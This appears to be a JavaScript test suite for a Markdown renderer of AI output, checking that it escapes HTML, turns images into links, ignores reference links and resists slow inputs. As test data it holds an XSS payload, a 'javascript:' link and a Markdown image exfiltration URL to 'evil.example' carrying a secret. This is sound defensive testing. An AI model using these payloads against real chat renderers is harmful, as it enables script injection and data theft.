import assert from "node:assert/strict";
import { test } from "node:test";
import { readBlocks } from "./blocks.js";
import { plainText } from "./plain.js";

const read = (text) => readBlocks(text).map(({ tree }) => tree);
const tags = (trees) =>
  trees.flatMap((tree) => (typeof tree === "string" ? [] : [tree.tag, ...tags(tree.children)]));
const p = (...children) => ({ tag: "p", children });
const a = (href, ...children) => ({ tag: "a", children, href });

const CLOSED_LIST = new Set(
  "p h3 ul ol li blockquote pre hr table tr th td strong em s code br a".split(" "),
);

test("it shows raw HTML as it was written", () => {
  const text = "<img src=x onerror=alert(1)> and <b>bold</b>";
  assert.deepEqual(read(text), [p(text)]);
});

test("it knows links and mail addresses that stand in a sentence", () => {
  assert.deepEqual(read("See https://shop.example/a_b."), [
    p("See ", a("https://shop.example/a_b", "https://shop.example/a_b"), "."),
  ]);
  assert.deepEqual(read("first_last_x@shop.example"), [
    p(a("mailto:first_last_x@shop.example", "first_last_x@shop.example")),
  ]);
});

test("it makes a link of an image, never an image", () => {
  assert.deepEqual(read("![chart](https://evil.example/?q=secret)"), [
    p(a("https://evil.example/?q=secret", "chart")),
  ]);
});

test("it gives a link without words its address", () => {
  assert.deepEqual(read("[](https://shop.example)"), [p(a("https://shop.example", "https://shop.example"))]);
});

test("it follows no address defined elsewhere", () => {
  assert.deepEqual(read("[here][1]\n\n[1]: javascript:alert(1)"), [
    p("[here][1]"),
    p("[1]: javascript:alert(1)"),
  ]);
});

test("it nests a list under a number with two spaces, as models write it", () => {
  const [list] = read("1. one\n  - inner\n2. two");
  assert.deepEqual(tags([list]), ["ol", "li", "ul", "li", "li"]);
});

test("it shows boxes to tick as signs", () => {
  const [list] = read("- [x] done\n- [ ] open");
  assert.deepEqual(
    list.children.map((item) => item.children[0]),
    ["☑ done", "☐ open"],
  );
});

test("it does not turn a line into a heading while the next one is being written", () => {
  assert.deepEqual(tags(read("Prices\n---")), ["p", "hr"]);
  assert.deepEqual(tags(read("Prices\n-")), ["p", "br"]);
});

test("it shows a code block that is not closed yet", () => {
  assert.deepEqual(read("```js\nlet a"), [{ tag: "pre", children: [{ tag: "code", children: ["let a"] }] }]);
});

test("it keeps the blocks above as they were while a text grows", () => {
  const text = "# Title\n\nFirst **paragraph**.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd.";
  const whole = readBlocks(text).map(({ raw }) => raw);
  for (let end = 1; end <= text.length; end += 1) {
    const settled = readBlocks(text.slice(0, end)).slice(0, -1);
    assert.deepEqual(
      settled.map(({ raw }) => raw),
      whole.slice(0, settled.length),
      text.slice(0, end),
    );
  }
});

test("it says the words without the signs", () => {
  assert.equal(
    plainText("# Hi\n\n**Two** things:\n- one\n- [two](https://a.example)"),
    "Hi Two things: one two",
  );
});

test("it makes only what is on its list, whatever is written, and fails at nothing", () => {
  const signs = "*_~`[]()<>!|#-+.>1:\\&;@ \t\n\n/=\"'aé😀htps".split("");
  let state = 1;
  const below = (n) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * n);
  };
  for (let round = 0; round < 20_000; round += 1) {
    const text = Array.from({ length: below(60) }, () => signs[below(signs.length)]).join("");
    for (const tag of tags(read(text)))
      assert.ok(CLOSED_LIST.has(tag), `${tag} from ${JSON.stringify(text)}`);
  }
});

test("it stays quick on texts made to be slow", () => {
  const hostile = [
    "[",
    "![",
    "*a",
    "**",
    "_a ",
    "`",
    "``` ",
    "> ",
    "- ",
    "|",
    "<",
    "&",
    "a@",
    "https://(",
    "\\",
    "~~a",
    "(",
    "1. ",
  ];
  for (const piece of hostile) {
    const text = piece.repeat(Math.ceil(8000 / piece.length));
    const began = performance.now();
    readBlocks(text);
    readBlocks(text.replaceAll(" ", "\n"));
    assert.ok(performance.now() - began < 1000, `${JSON.stringify(piece)}: ${performance.now() - began} ms`);
  }
});
